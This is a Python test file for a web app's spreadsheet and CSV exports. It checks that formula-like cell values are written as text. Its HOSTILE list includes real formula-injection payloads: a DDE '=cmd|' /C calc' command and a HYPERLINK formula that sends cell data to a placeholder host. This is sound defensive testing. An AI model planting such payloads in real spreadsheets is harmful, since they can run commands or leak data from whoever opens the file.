"""Formula-like text (=, +, -, @, tab, carriage return) comes out of every export as text, never a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook

from doingoai.accounts.scope import SYSTEM
from doingoai.aid.spreadsheets import PROJECT_COLUMNS, Column, spreadsheet_import, workbook_from_sheets
from doingoai.spreadsheet_cells import FORMULA_STARTS, csv_cell
from tests.hostile.corpus import PROJECT_ROW, csv_file, xlsx_book
from tests.library_fixtures import ingest

__all__ = ["ingest"]

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _formulas(data: bytes) -> list[str]:
    """Return every formula element in the workbook's sheets."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    found = []
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            text = archive.read(name).decode()
            found += [part for part in text.split("<f>")[1:]]
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_one_rule_writes_formula_like_text_as_text(text: str) -> None:
    assert csv_cell(text) == "'" + text
    data = workbook_from_sheets([("T", [Column("a"), Column("b", "count")], [[text, 5]])])
    assert _formulas(data) == []
    cell = load_workbook(io.BytesIO(data))["T"]["A2"]
    assert cell.data_type == "s" and cell.value == text and cell.quotePrefix


def test_plain_text_and_numbers_are_unchanged() -> None:
    assert [csv_cell(v) for v in ("Hà Nội", 5, None, "a=b")] == ["Hà Nội", 5, None, "a=b"]
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_imported_formula_titles_and_identifiers_export_as_text(
    units: Any, partners: Any, rates: None, make_user: Any, client_for: Any, kind: str
) -> None:
    rows = []
    for number, text in enumerate(HOSTILE):
        row = list(PROJECT_ROW)
        row[0] = f"{text}#{number}" if number % 2 else text
        row[1] = text.strip() or "x"
        row[12] = text
        rows.append(row)
    data = xlsx_book([], projects=rows) if kind == "xlsx" else csv_file(rows, PROJECT_COLUMNS)
    spreadsheet_import(actor=SYSTEM, name=f"cong-thuc.{kind}", data=data)
    client = client_for(make_user("coordinator", None))
    for url in ("/vien-tro/du-an/?format=xlsx", "/vien-tro/giao-dich/?format=xlsx"):
        response = client.get(url)
        assert response.status_code == 200
        assert _formulas(response.content) == [], url
    sheet = load_workbook(io.BytesIO(client.get("/vien-tro/du-an/?format=xlsx").content)).active
    identifiers = {row[0].value for row in sheet.iter_rows(min_row=2)}
    assert "=cmd|' /C calc'!A0" in identifiers


def test_library_csv_export_writes_a_formula_title_as_text(
    ingest: Any, make_user: Any, client_for: Any, units: Any
) -> None:
    ingest({"congthuc.txt": '=HYPERLINK("http://example.invalid","Xem")\n\nĐoàn công tác thăm trường.'})
    content = client_for(make_user("coordinator", None)).get("/thu-vien/xuat.csv").content.decode("utf-8-sig")
    titles = [row["Tiêu đề"] for row in csv.DictReader(io.StringIO(content))]
    assert titles == ['\'=HYPERLINK("http://example.invalid","Xem")']
